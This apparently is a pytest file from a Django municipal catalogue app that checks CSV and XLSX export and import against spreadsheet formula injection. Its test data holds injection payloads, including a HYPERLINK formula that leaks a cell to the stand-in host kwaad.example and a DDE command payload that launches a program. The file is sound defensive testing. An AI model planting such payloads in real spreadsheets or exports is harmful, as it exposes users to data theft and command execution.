"""Formula injection through the catalogue files: a text that a spreadsheet would run (it starts with =, +, -,
@, a tab or a carriage return) leaves the export as text, in CSV and in XLSX; on import it is stored as the
plain text it is, and a real formula in an XLSX cell is never evaluated or kept as a formula."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from wijkregie.provisions import catalogue_io, services
from wijkregie.provisions.models import Provision

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _export(world, file_format):
    return services.catalogue_export(
        acting_user=world.fenna, municipality=world.west, file_format=file_format
    )


def _rows(world, file_format):
    """The exported data rows as (cell text, is a formula) per cell."""
    content = _export(world, file_format)
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
        return [[(cell, False) for cell in row] for row in rows[1:]]
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(cell.value or "", cell.data_type == "f") for cell in row] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_the_export_writes_every_formula_as_text(world, file_format, formula):
    Provision.objects.create(
        municipality=world.west,
        kind="algemeen",
        name=formula,
        description=formula,
        target_group=formula,
        keywords=formula,
        contact=formula,
    )

    (row,) = _rows(world, file_format)

    written = [text for text, _ in row if formula in text]
    assert written == [f"'{formula}"] * 5
    assert [text for text, is_formula in row if is_formula] == []


def test_an_imported_formula_is_kept_as_plain_text_and_goes_out_defused(world):
    header = ";".join(catalogue_io.COLUMNS)
    line = f"algemeen;=1+1;@SUM(1+1);+31 6 1234;;-2+3;;;;{FORMULAS[0].replace(';', ',')}"
    content = f"{header}\n{line}\n".encode()

    services.catalogue_import(
        acting_user=world.fenna, municipality=world.west, content=content, filename="c.csv"
    )

    stored = Provision.objects.get(municipality=world.west)
    assert (stored.name, stored.description, stored.target_group, stored.keywords) == (
        "=1+1",
        "@SUM(1+1)",
        "+31 6 1234",
        "-2+3",
    )
    exported = _export(world, "csv").decode("utf-8-sig")
    assert "'=1+1;'@SUM(1+1);'+31 6 1234;;'-2+3;" in exported


def test_a_formula_cell_in_an_xlsx_is_never_evaluated_nor_kept(world):
    book = Workbook()
    sheet = book.active
    sheet.append(catalogue_io.COLUMNS)
    sheet.append(["algemeen", "Koffieochtend", '=HYPERLINK("https://kwaad.example","Klik")'])
    buffer = io.BytesIO()
    book.save(buffer)

    services.catalogue_import(
        acting_user=world.fenna, municipality=world.west, content=buffer.getvalue(), filename="c.xlsx"
    )

    assert list(Provision.objects.values_list("name", "description")) == [("Koffieochtend", "")]
